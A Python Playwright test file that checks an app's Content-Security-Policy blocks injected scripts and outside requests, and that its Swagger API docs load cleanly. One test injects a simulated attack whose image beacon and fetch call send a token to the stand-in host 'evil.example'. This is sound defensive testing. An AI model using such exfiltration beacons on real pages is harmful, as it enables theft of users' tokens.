"""The Content-Security-Policy in a real browser: what it lets through, and what not.

The whole two-phone flow runs under the app's policy without a single violation (the
``pixel``/``iphone`` fixtures fail a test on any console error); here: the policy does
block what an injected script would do (in Chromium and WebKit), and the API reference at
/docs works under its own (Chromium).
"""

from __future__ import annotations

import functools
import re

import pytest
from playwright.sync_api import Browser, Page, expect

from testbed.browser.phone import Phone
from testbed.browser.phone import expect as expect_on_phone


def violations(page: Page) -> list[str]:
    found: list[str] = []
    page.on(
        "console",
        lambda m: found.append(m.text) if "Content Security Policy" in m.text else None,
    )
    return found


@pytest.mark.engines("chromium", "webkit")
@pytest.mark.expected_console_errors("Content Security Policy|Refused to|failed to load")
def test_the_app_runs_no_injected_script_and_talks_to_no_other_site(
    iphone: Phone, server: str
) -> None:
    iphone.goto(f"{server}/")
    expect_on_phone(iphone.get_by_test_id("start")).to_be_visible()
    # What a script slipped into the page (say, through a photo's file name) would try.
    iphone.evaluate(
        """() => {
            const inline = document.createElement("script");
            inline.textContent = "window.injected = true";
            document.body.append(inline);
            const beacon = new Image();
            beacon.src = "https://evil.example/steal?token=secret";
            document.body.append(beacon);
            fetch("https://evil.example/steal").catch(() => null);
        }"""
    )
    assert iphone.evaluate("() => window.injected") is None

    def blocked(kind: str) -> bool:  # the reports arrive asynchronously
        policy = [e for e in iphone.console_errors() if re.search("Content Security Policy", e)]
        return any(f"{kind}-src" in error for error in policy)

    for kind in ("script", "img", "connect"):
        iphone.wait_for(functools.partial(blocked, kind), f"the policy to block {kind}-src")


def test_the_api_reference_works_under_its_own_policy(browser: Browser, server: str) -> None:
    page = browser.new_page()
    blocked = violations(page)
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    page.goto(f"{server}/docs")
    expect(page.locator(".swagger-ui .info .title")).to_contain_text("Buddy Search")
    # An operation opened: its examples, highlighted; "Try it out" against this server.
    page.locator(".opblock-summary", has_text="/api/version").click()
    page.get_by_role("button", name="Try it out").click()
    page.get_by_role("button", name="Execute").click()
    expect(page.locator(".live-responses-table").first).to_contain_text("200")
    expect(page.locator(".highlight-code").first).to_be_visible()
    assert blocked == []
    assert errors == []
    page.close()
